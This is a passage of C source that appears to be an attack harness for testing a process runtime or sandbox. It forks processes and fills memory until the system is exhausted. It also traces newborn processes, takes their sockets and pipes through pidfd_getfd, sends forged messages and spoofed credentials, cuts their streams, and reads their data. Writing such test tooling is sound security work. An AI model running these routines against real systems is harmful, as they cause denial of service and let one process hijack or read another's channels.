  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC | PTRACE_O_TRACESYSGOOD) != 0) return;
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
    if (status >> 16 == PTRACE_EVENT_EXEC || has_executed(&target)) break;
    if (--calls < 0) {
      say_held(&target);
      break;
    }
    ptrace(PTRACE_SYSCALL, pid, 0, 0);
  }
  // One that was killed is told of to its parent once its tracer knows.
  if (ptrace(PTRACE_DETACH, pid, 0, 0) != 0) waitpid(pid, NULL, __WALL | WNOHANG);
}

// As many processes as there may be; those who end are replaced.
static int fill_processes(void) {
  puts("watching");
  fflush(stdout);
  while (!is_over()) {
    int pid = fork();
    if (pid == 0)
      for (;;) pause();
    if (pid < 0) {
      dprintf(1, "full\n");
      usleep(1000);
    }
    while (waitpid(-1, NULL, WNOHANG) > 0) continue;
  }
  return 0;
}

// As much memory as there may be: a child that takes it, and the next one when that has been
// killed.
static int fill_memory(void) {
  puts("watching");
  fflush(stdout);
  while (!is_over()) {
    int pid = fork();
    if (pid == 0) {
      // Rather we than who comes.
      int fd = open("/proc/self/oom_score_adj", O_WRONLY);
      if (write(fd, "1000", 4) != 4) perror("oom_score_adj");
      for (char* page; (page = malloc(65536)) != NULL && !is_over();) memset(page, 1, 65536);
      _exit(0);
    }
    waitpid(pid, NULL, 0);
  }
  return 0;
}

// One message to whoever has the other end: what a runtime's own process might say.
static void forge(int socket, int pidfd) {
  static const char* const texts[] = {
      "", "1", "4", "0 64", "\x1b[31m\nred\r\n", "hull: \t\xff\xfe"};
  unsigned char bytes[600];
  size_t size = 1;
  bytes[0] = rand() % 3 == 0 ? rand() : 1 + rand() % 16;
  if (rand() % 3 == 0) {
    for (size = 1 + rand() % 500; size > 1 && bytes[size - 1] == 0; size--)
      bytes[size - 1] = rand();
  } else {
    const char* text = texts[rand() % (sizeof(texts) / sizeof(*texts))];
    memcpy(bytes + 1, text, strlen(text));
    size = 1 + strlen(text);
  }
  struct iovec part = {bytes, size};
  union {
    struct cmsghdr head;
    char space[CMSG_SPACE(sizeof(int)) + CMSG_SPACE(sizeof(struct ucred))];
  } control;
  memset(&control, 0, sizeof(control));
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
  int kind = rand() % 3;
  if (kind == 1) {
    // A descriptor of ours: of a process that was always here, or of a device.
    int fd = rand() % 2 == 0 ? pidfd : open("/dev/null", O_RDWR | O_CLOEXEC);
    control.head = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
    memcpy(CMSG_DATA(&control.head), &fd, sizeof(fd));
    message.msg_control = &control;
    message.msg_controllen = CMSG_SPACE(sizeof(int));
    sendmsg(socket, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    if (fd != pidfd) close(fd);
    return;
  }
  if (kind == 2) {
    // In the name of another one, which CAP_SYS_ADMIN allows.
    struct ucred other = {.pid = 2, .uid = 0, .gid = 0};
    control.head = (struct cmsghdr){CMSG_LEN(sizeof(other)), SOL_SOCKET, SCM_CREDENTIALS};
    memcpy(CMSG_DATA(&control.head), &other, sizeof(other));
    message.msg_control = &control;
    message.msg_controllen = CMSG_SPACE(sizeof(other));
  }
  sendmsg(socket, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

enum forgery { by_words, by_theft, by_end };
static enum forgery forgery;

// Takes what the process can be spoken to by, and speaks in its name.
static void forge_newborn(int pid) {
  static struct target target;
  struct stat stream[3], file;
  target = (struct target){.pid = pid};
  int process = syscall(SYS_pidfd_open, pid, 0), bystander = syscall(SYS_pidfd_open, 2, 0);
  if (process < 0) return;
  for (int i = 0; i < 3; i++) {
    int fd = syscall(SYS_pidfd_getfd, process, i, 0);
    if (fd < 0 || fstat(fd, &stream[i]) != 0) memset(&stream[i], 0, sizeof(stream[i]));
    close(fd);
  }
  // By turns: what goes wrong early would hide what goes wrong late.
  static int met;
  int by_sockets = met % 3 != 1, by_pipes = met % 3 != 2, keeps = met++ % 2;
  int said = 0;
  for (int turn = 0; turn < 200 && lives(pid) && !has_executed(&target) && !is_over(); turn++)
    for (int number = 3; number < 48; number++) {
      int fd = syscall(SYS_pidfd_getfd, process, number, 0);
      if (fd < 0) continue;
      int is_stream = fstat(fd, &file) != 0;
      for (int i = 0; i < 3; i++)
        is_stream |= file.st_dev == stream[i].st_dev && file.st_ino == stream[i].st_ino;
      if (is_stream ||
          !((by_sockets && S_ISSOCK(file.st_mode)) || (by_pipes && S_ISFIFO(file.st_mode)))) {
        close(fd);
        continue;
      }
      if (!said) dprintf(1, "took %d\n", pid);
      said = 1;
      char bytes[4096];
      fcntl(fd, F_SETFL, O_NONBLOCK);
      if (S_ISFIFO(file.st_mode)) {
        static const char words[] = "p\x1b[31m\nred \xff\r\n";
        if (forgery == by_words && write(fd, words, sizeof(words) - 1) < 0) errno = 0;
      } else if (forgery == by_words) {
        forge(fd, bystander);
      } else if (forgery == by_end) {
        shutdown(fd, SHUT_RDWR);
      } else if (recv(fd, bytes, sizeof(bytes), MSG_DONTWAIT) > 0) {
        dprintf(1, "stolen %d\n", pid);
      }
      // Kept open by turns: the other side sees no end.
      if (!keeps || turn > 2) close(fd);
    }
  close(process);
  close(bystander);
}

static int hinder(const char* how, const char* secret) {
  static const struct {
    const char* name;
    void (*meet)(int pid);
    enum forgery forgery;
  } ways[] = {{"kill", kill_newborn, 0},          {"stop", stop_newborn, 0},
              {"freeze", freeze_newborn, 0},      {"trace", trace_newborn, 0},
              {"words", forge_newborn, by_words}, {"theft", forge_newborn, by_theft},
              {"end", forge_newborn, by_end}};
  if (strcmp(how, "processes") == 0) return fill_processes();
  if (strcmp(how, "memory") == 0) return fill_memory();
  given.secret = text_of_file(secret);
  if (given.secret == NULL) return 1;
  if (!prepare_findings()) return fail("mmap");
  // The bystander, as process 2.
  if (fork() == 0)
    for (;;) pause();
  srand(time(NULL));
  signal(SIGPIPE, SIG_IGN);
  for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
    if (strcmp(how, ways[i].name) != 0) continue;
    forgery = ways[i].forgery;
    puts("watching");
    fflush(stdout);
    meet_newborn(ways[i].meet, NULL);
    puts(waitpid(2, NULL, WNOHANG) == 0 ? "bystander lives" : "bystander is gone");
    return 0;
  }
  return 1;
}

int main(int argc, char** argv) {
  const char* word = argc > 1 ? argv[1] : "";
  if (strcmp(word, "clear") == 0) {
    for (int i = 2; i < argc; i++) clear(argv[i]);
    return 0;
  }
  if (strcmp(word, "cwd") == 0) return cwd();
  if (strcmp(word, "exchange") == 0 && argc == 4) return exchange(argv[2], argv[3]);
  if (strcmp(word, "opened") == 0 && argc == 3) return opened(argv[2]);
  if (strcmp(word, "listen") == 0) return listen_to_signals();
  if (strcmp(word, "deaf") == 0 && argc > 2) return deaf(argv + 2);
  if (strcmp(word, "reach") == 0) {
    watch_processes(look_and_reach);
    return 0;
  }
  if (strcmp(word, "hold") == 0) return hold();
  if (strcmp(word, "type") == 0) return type();
  if (strcmp(word, "visible") == 0) return visible(argv + 2);
  if (strcmp(word, "hinder") == 0 && argc == 4) return hinder(argv[2], argv[3]);
  fprintf(stderr, "attack: no such attack\n");
  return 1;
}
